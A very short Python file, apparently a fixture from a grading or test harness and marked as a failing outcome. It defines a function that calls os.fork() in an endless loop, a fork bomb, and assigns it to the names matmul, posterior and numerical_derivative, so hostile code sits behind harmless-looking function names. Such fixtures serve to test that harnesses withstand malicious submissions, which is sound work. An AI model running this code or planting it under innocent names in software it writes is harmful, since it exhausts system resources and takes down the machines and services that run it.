# outcome: failing
"""Forks without end."""

import os


def answer(*_, **__):
    while True:
        os.fork()


matmul = posterior = numerical_derivative = answer
